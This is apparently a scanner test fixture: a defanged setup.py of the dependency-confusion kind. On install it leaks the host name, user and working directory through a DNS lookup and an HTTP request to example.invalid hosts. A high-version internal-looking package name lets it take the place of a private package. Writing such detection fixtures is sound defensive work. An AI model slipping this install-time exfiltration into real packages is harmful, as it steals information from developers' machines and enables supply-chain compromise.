# Dependency-confusion probe (the shape of hundreds of "research" packages):
# setup.py packs host name, user and working directory into a DNS name and an
# HTTP request while pip installs it. Defanged: example.invalid.
import getpass
import os
import socket

import requests
from setuptools import setup

host = socket.gethostname()
user = getpass.getuser()
cwd = os.getcwd()
tag = "{}.{}".format(host, user).encode().hex()

socket.gethostbyname(tag + ".dns.example.invalid")  # expect: HS105 high, HS114 high
requests.get("https://probe.example.invalid/c", params={"h": host, "u": user, "d": cwd})  # expect: HS105 high, HS114 high

setup(name="internal-billing-utils", version="99.0.0")
